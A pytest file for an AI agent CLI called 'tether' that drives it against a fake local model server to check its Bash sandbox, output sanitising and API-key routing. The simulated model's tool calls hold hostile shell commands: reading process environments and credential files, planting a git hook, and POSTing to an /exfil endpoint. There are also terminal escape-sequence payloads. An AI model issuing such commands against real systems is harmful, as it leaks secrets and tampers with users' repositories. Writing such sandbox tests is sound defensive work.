"""Issue 8, items 3-7 and 9, probed as a new user and as an attacker would: the real `tether`
command against a scripted OpenAI-compatible (or Anthropic) server on 127.0.0.1.

Evidence is what reached the world: marker files for "did the command run", the server's request
log for "what reached the model", stdout bytes for "what reached the terminal".
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from fake_openai_server import FakeOpenAIServer, RecordedRequest, Reply, chat_completion, tool_call
from hang import HANG
from trickle_server import Trickler

from tether.tools._sandbox import probe_bubblewrap

REPO = Path(__file__).resolve().parents[1]
PROVIDER_VARS = ("OPENAI_", "OPENROUTER_", "TETHER_", "ANTHROPIC_")
BWRAP_PROBLEM = probe_bubblewrap()


def clean_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(PROVIDER_VARS)}
    env["PYTHONPATH"] = str(REPO / "src")
    env.update(extra)
    return env


def tether(args: list[str], *, cwd: Path, env: dict[str, str], stdin: str | None = None,
           timeout: float = HANG) -> subprocess.CompletedProcess[bytes]:
    """The real command; stdout and stderr as bytes, so escape sequences are seen as they are."""
    return subprocess.run([sys.executable, "-m", "tether.cli", *args], cwd=cwd, env=env,
                          input=stdin.encode() if stdin is not None else None, capture_output=True, timeout=timeout)


def one_clear_line(proc: subprocess.CompletedProcess[bytes]) -> str:
    err = proc.stderr.decode()
    assert proc.returncode != 0
    assert "Traceback" not in err, err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith("tether: ")
    return lines[0]


def tool_messages(request: RecordedRequest) -> list[str]:
    return [m["content"] for m in request.body["messages"] if m["role"] == "tool"]


# ----- 3. the shell is sandboxed ---------------------------------------------------------------------


@pytest.mark.skipif(BWRAP_PROBLEM is not None, reason=f"bubblewrap cannot run here ({BWRAP_PROBLEM}); "
                    "test_unsandboxed_bash_needs_approval proves the fallback instead")
def test_injected_bash_cannot_read_secrets_write_outside_or_reach_the_network(tmp_path: Path) -> None:
    """With --yes (the course's bypassPermissions), every Bash call runs: the sandbox alone holds."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (tmp_path / "secret.txt").write_text("OUTSIDE-SECRET-5150\n")
    key = "sk-or-v1-parent-key-8675309"
    calls = [
        tool_call("Bash", {"command": "cat /proc/$PPID/environ /proc/1/environ | rev; env | rev"}, id="c1"),
        tool_call("Bash", {"command": f"cat {tmp_path}/secret.txt; cat ~/.bash_history"}, id="c2"),
        tool_call("Bash", {"command": f"touch {tmp_path}/escaped.marker; echo hook > .git/hooks/pre-commit"},
                  id="c3"),
    ]
    with FakeOpenAIServer() as server:
        net = (f"python3 -c \"import urllib.request as u; u.urlopen('{server.base_url}/exfil', b'x', 3)\"; "
               "touch inside.marker")
        server.push(chat_completion(None, [tool_call("Bash", {"command": net}, id="c0")]),
                    chat_completion(None, calls), chat_completion("done"))
        (ws / ".git" / "hooks").mkdir(parents=True)
        proc = tether(["-p", "tidy up", "--yes"], cwd=ws,
                      env=clean_env(OPENROUTER_API_KEY=key, OPENROUTER_BASE_URL=server.base_url))
    assert proc.returncode == 0, proc.stderr
    paths = [r.path for r in server.requests]
    assert paths == ["/v1/chat/completions"] * 3  # the sandbox's POST to /exfil never arrived
    assert (ws / "inside.marker").exists()  # the command did run, in the workspace
    seen = "\n".join(tool_messages(server.requests[-1]))
    for secret in (key, key[::-1], "OUTSIDE-SECRET-5150"):
        assert secret not in seen
    assert not (tmp_path / "escaped.marker").exists()
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()


def test_unsandboxed_bash_needs_approval(tmp_path: Path) -> None:
    """Where bubblewrap cannot run (here: not on PATH), it is said once on stderr and an unapproved
    Bash call (stdin is not a terminal, so nobody can approve) does not run."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("bash", "touch", "sh"):  # a PATH with bash but no bwrap
        found = shutil.which(tool)
        assert found is not None
        (bin_dir / tool).symlink_to(found)
    script = [chat_completion(None, [tool_call("Bash", {"command": "touch ran.marker"}, id="a"),
                                     tool_call("Bash", {"command": "touch ran2.marker"}, id="b")]),
              chat_completion("ok")]
    with FakeOpenAIServer(script) as server:
        proc = tether(["-p", "make files"], cwd=tmp_path,
                      env=clean_env(PATH=str(bin_dir), OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url))
    err = proc.stderr.decode()
    assert err.count("Bash is not sandboxed") == 1, err
    assert not (tmp_path / "ran.marker").exists() and not (tmp_path / "ran2.marker").exists()
    assert all("approv" in m.lower() for m in tool_messages(server.requests[-1]))


# ----- 4. what reaches the terminal -----------------------------------------------------------------

HOSTILE = "\x1b[31mred\x1b[0m \x1b]8;;http://x.test/\x07link\x1b]8;;\x07 \x1b]52;c;aGVsbG8=\x07clip\x9b2J\r\x08!\x07"


def test_terminal_control_sequences_never_reach_stdout_unless_raw(tmp_path: Path) -> None:
    with FakeOpenAIServer([chat_completion(HOSTILE), chat_completion(HOSTILE), chat_completion(HOSTILE)]) as server:
        env = clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url)
        plain = tether(["-p", "hi", "--tools", "none"], cwd=tmp_path, env=env)
        raw = tether(["-p", "hi", "--tools", "none", "--raw"], cwd=tmp_path, env=env)
        as_json = tether(["-p", "hi", "--tools", "none", "--json"], cwd=tmp_path, env=env)
    assert plain.stdout == b"red link clip!\n"
    assert raw.stdout == HOSTILE.encode() + b"\n"
    assert b"\x1b" not in as_json.stdout and "\x9b".encode() not in as_json.stdout
    assert json.loads(as_json.stdout)["answer"] == HOSTILE  # escaped, not lost


def test_control_sequences_in_errors_never_reach_stderr(tmp_path: Path) -> None:
    with FakeOpenAIServer([Reply.error(400, "bad \x1b]52;c;aGk=\x07request\x1b[2K")]) as server:
        proc = tether(["-p", "hi", "--tools", "none"], cwd=tmp_path,
                      env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url))
    assert proc.returncode == 1
    assert b"\x1b" not in proc.stderr and b"bad request" in proc.stderr


# ----- 5. the partial-answer call keeps the tools, with tool choice "none" ---------------------------


def _endless(request: RecordedRequest) -> dict[str, Any]:
    if request.body.get("tool_choice") == "none":
        return chat_completion("partial answer")
    n = len(request.body["messages"])
    return chat_completion(None, [tool_call("calculator", {"expression": f"{n}+1"}, id=f"c{n}")])


def test_openai_final_call_sends_the_tools_with_choice_none(tmp_path: Path) -> None:
    with FakeOpenAIServer(responder=_endless) as server:
        proc = tether(["-p", "go", "--tools", "calculator", "--max-steps", "2"], cwd=tmp_path,
                      env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url))
    assert (proc.returncode, proc.stdout) == (3, b"partial answer\n")
    last = server.requests[-1].body
    assert last["tool_choice"] == "none" and [t["function"]["name"] for t in last["tools"]] == ["calculator"]
    assert any(m.get("tool_calls") for m in last["messages"])  # the history the reason Anthropic needs it
    assert all("tool_choice" not in r.body for r in server.requests[:-1])


def _anthropic_message(content: list[dict[str, Any]], stop: str) -> dict[str, Any]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-fake", "content": content,
            "stop_reason": stop, "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 3}}


def _anthropic_endless(request: RecordedRequest) -> Reply:
    if request.body.get("tool_choice") == {"type": "none"}:
        return Reply.json(_anthropic_message([{"type": "text", "text": "partial from claude"}], "end_turn"))
    n = len(request.body["messages"])
    use = {"type": "tool_use", "id": f"toolu_{n}", "name": "calculator", "input": {"expression": f"{n}+1"}}
    return Reply.json(_anthropic_message([use], "tool_use"))


def test_anthropic_final_call_sends_the_tools_with_choice_none(tmp_path: Path) -> None:
    pytest.importorskip("anthropic")
    with FakeOpenAIServer(responder=_anthropic_endless) as server:
        proc = tether(["-p", "go", "--model", "anthropic:claude-fake", "--base-url", server.root_url,
                       "--api-key", "sk-ant-test", "--tools", "calculator", "--max-steps", "2"],
                      cwd=tmp_path, env=clean_env())
    assert (proc.returncode, proc.stdout) == (3, b"partial from claude\n"), proc.stderr
    last = server.requests[-1].body
    assert server.requests[-1].path == "/v1/messages"
    assert last["tool_choice"] == {"type": "none"} and [t["name"] for t in last["tools"]] == ["calculator"]


# ----- 6. no model call, and no run, holds tether forever ----------------------------------------------


@pytest.mark.parametrize("silent", [False, True], ids=["trickling", "silent"])
def test_a_trickling_or_silent_endpoint_is_abandoned_at_the_model_deadline(tmp_path: Path, silent: bool) -> None:
    # The server never finishes: without a total deadline this would only end at the hang guard (HANG).
    with Trickler(silent=silent) as server:
        proc = tether(["-p", "hi", "--tools", "none", "--model-timeout", "1.5"], cwd=tmp_path,
                      env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url))
    line = one_clear_line(proc)
    assert "deadline" in line and "1.5s" in line


def test_the_run_wall_clock_limit_also_bounds_a_stalled_model(tmp_path: Path) -> None:
    with Trickler() as server:
        proc = tether(["-p", "hi", "--tools", "none", "--model-timeout", "0", "--max-seconds", "2"], cwd=tmp_path,
                      env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url))
    assert proc.returncode == 3 and b"time_budget" in proc.stderr


def test_models_prints_the_limits(tmp_path: Path) -> None:
    default = tether(["models"], cwd=tmp_path, env=clean_env())
    custom = tether(["models"], cwd=tmp_path, env=clean_env(TETHER_MAX_SECONDS="90", TETHER_MODEL_TIMEOUT="0"))
    assert b"run        600 s wall clock" in default.stdout and b"model call 120 s" in default.stdout
    assert b"run        90 s wall clock" in custom.stdout and b"model call no limit" in custom.stdout
    assert b"Bash sandbox: " in default.stdout


# ----- 7. a key goes only where it was configured ---------------------------------------------------


def test_base_url_never_receives_the_openrouter_key_or_model(tmp_path: Path) -> None:
    key = "sk-or-v1-do-not-leak"
    with FakeOpenAIServer([chat_completion("a"), chat_completion("b")]) as other:
        env = clean_env(OPENROUTER_API_KEY=key)
        bare = tether(["-p", "hi", "--tools", "none", "--base-url", other.base_url], cwd=tmp_path, env=env)
        own = tether(["-p", "hi", "--tools", "none", "--base-url", other.base_url, "--api-key", "sk-mine"],
                     cwd=tmp_path, env=env)
    assert (bare.returncode, own.returncode) == (0, 0)
    first, second = other.requests
    assert key not in json.dumps(first.headers) and key not in json.dumps(first.body)
    assert first.headers["authorization"] == "Bearer no-key"
    assert first.body["model"] != "anthropic/claude-haiku-4.5"
    assert second.headers["authorization"] == "Bearer sk-mine"


def test_openrouter_key_still_goes_to_openrouter(tmp_path: Path) -> None:
    """The course's setup is unchanged: OPENROUTER_BASE_URL + OPENROUTER_API_KEY."""
    with FakeOpenAIServer([chat_completion("ok")]) as server:
        proc = tether(["-p", "hi", "--tools", "none"], cwd=tmp_path,
                      env=clean_env(OPENROUTER_API_KEY="sk-or", OPENROUTER_BASE_URL=server.base_url))
    assert proc.stdout == b"ok\n"
    assert server.requests[0].headers["authorization"] == "Bearer sk-or"
    assert server.requests[0].body["model"] == "anthropic/claude-haiku-4.5"


# ----- 9. rough edges: one clear line, a non-zero exit, never a traceback ---------------------------


@pytest.mark.parametrize("args", [
    ["-p", "hi", "--model", "anthropic:claude"],
    ["-p", "hi", "--trace", "/nonexistent/dir/t.jsonl", "--tools", "none"],
    ["-p", "hi", "--bogus-flag"],
    ["-p", "hi", "--tools", "nope"],
    ["-p", "hi", "--workspace", "/nonexistent/ws"],
    ["-p", "hi", "--max-steps", "0"],
    ["-p", "hi", "--model", "local:/nonexistent/model.gguf"],
    ["run"],
    ["chat", "--model", "anthropic:x"],
], ids=["anthropic-no-key", "trace-dir", "bad-flag", "bad-tools", "bad-workspace", "bad-number", "no-gguf",
        "no-prompt", "chat-no-key"])
def test_bad_input_gets_one_clear_line(tmp_path: Path, args: list[str]) -> None:
    proc = tether(args, cwd=tmp_path, env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL="http://127.0.0.1:9/v1"),
                  stdin="")
    line = one_clear_line(proc)
    assert "❌" not in line  # rich would render anthropic:x: as an emoji
    assert not Path("/nonexistent").exists()


def test_bad_limits_in_the_environment(tmp_path: Path) -> None:
    proc = tether(["-p", "hi", "--tools", "none"], cwd=tmp_path,
                  env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL="http://127.0.0.1:9/v1",
                                TETHER_MAX_SECONDS="soon"))
    assert "TETHER_MAX_SECONDS" in one_clear_line(proc)


def test_non_utf8_prompt_on_stdin(tmp_path: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "tether.cli", "-p", "-", "--tools", "none"], cwd=tmp_path,
                          env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL="http://127.0.0.1:9/v1"),
                          input=b"\xff\xfe bad", capture_output=True, timeout=HANG)
    assert "UTF-8" in one_clear_line(proc)


def test_ctrl_c_while_waiting_for_the_prompt(tmp_path: Path) -> None:
    proc = subprocess.Popen([sys.executable, "-m", "tether.cli", "-p", "-", "--tools", "none"], cwd=tmp_path,
                            env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL="http://127.0.0.1:9/v1"),
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        time.sleep(2.0)  # let it reach the stdin read (a signal earlier just ends it sooner)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=HANG)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 130, err
    assert b"Traceback" not in err and out == b""


def test_a_closed_stdout_is_not_a_traceback(tmp_path: Path) -> None:
    with FakeOpenAIServer([chat_completion("x" * 200_000)]) as server:
        proc = subprocess.Popen([sys.executable, "-m", "tether.cli", "-p", "hi", "--tools", "none"], cwd=tmp_path,
                                env=clean_env(OPENROUTER_API_KEY="k", OPENROUTER_BASE_URL=server.base_url),
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert proc.stdout is not None and proc.stderr is not None
        proc.stdout.read(10)
        proc.stdout.close()  # `| head -c 10`
        err = proc.stderr.read()
        proc.wait(timeout=HANG)
    assert b"Traceback" not in err and b"Exception ignored" not in err


def test_your_program_sh_without_a_venv_says_how_to_set_up(tmp_path: Path) -> None:
    if subprocess.run(["/usr/bin/python3", "-c", "import openai, pydantic, rich, typer"],
                      capture_output=True, check=False).returncode == 0:
        pytest.skip("the system python3 has tether's dependencies, so the script can run without a venv")
    shutil.copy(REPO / "your_program.sh", tmp_path / "your_program.sh")  # a checkout with no .venv
    proc = subprocess.run([str(tmp_path / "your_program.sh"), "-p", "hi"], cwd=tmp_path,
                          env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}, capture_output=True, timeout=HANG)
    err = proc.stderr.decode()
    assert proc.returncode == 1 and proc.stdout == b""
    assert err.count("\n") == 1 and "Traceback" not in err and "venv" in err


def test_the_spinner_stops_while_an_approval_is_asked() -> None:
    """The approval prompt is never redrawn over: the spinner is stopped for the question and resumes after."""
    import asyncio

    from rich.console import Console

    from tether.cli._build import PausingApprover
    from tether.cli._progress import Reporter
    from tether.policy import ApprovalDecision, ApprovalRequest

    reporter = Reporter(Console(file=StringIO(), force_terminal=True), enabled=True)
    seen: list[bool] = []

    class Asker:
        async def request(self, req: ApprovalRequest) -> ApprovalDecision:
            seen.append(reporter._status is None)
            await asyncio.sleep(0.01)
            return ApprovalDecision("denied", "test")

    approver = PausingApprover(Asker(), reporter.paused)
    req = ApprovalRequest("r", None, "Bash", {"command": "x"}, "k", "run x", "irreversible")

    async def main() -> None:
        reporter.start()
        assert reporter._status is not None
        await asyncio.gather(approver.request(req), approver.request(req))  # concurrent asks
        assert reporter._status is not None  # back once no one is asked any more
        reporter.stop()

    asyncio.run(main())
    assert seen == [True, True]


@pytest.mark.parametrize("module", ["tether.cli._app", "tether.telemetry._otel"])
def test_ctrl_c_at_any_moment_of_start_up_is_one_line_and_130(tmp_path: Path, module: str) -> None:
    """A Ctrl-C delivered while the command's modules import (deterministically: an import hook raises
    SIGINT when `module` starts importing: the command's own modules, or telemetry's, set up after the
    command's main has taken Ctrl-C back) ends with exit 130 and one line, no traceback."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import signal, sys\n"
        "class Interrupt:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        f"        if name == {module!r}:\n"
        "            signal.raise_signal(signal.SIGINT)\n"
        "        return None\n"
        "sys.meta_path.insert(0, Interrupt())\n")
    for argv in ([sys.executable, "-P", "-m", "tether.cli", "--version"], [sys.executable, "-P", "-m", "tether", "--version"]):
        env = clean_env(PYTHONPATH=f"{hook}:{REPO / 'src'}", OTEL_EXPORTER_OTLP_ENDPOINT="http://127.0.0.1:9")
        done = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=HANG)
        assert (done.returncode, done.stderr) == (130, "tether: interrupted\n"), (argv, done.stderr)
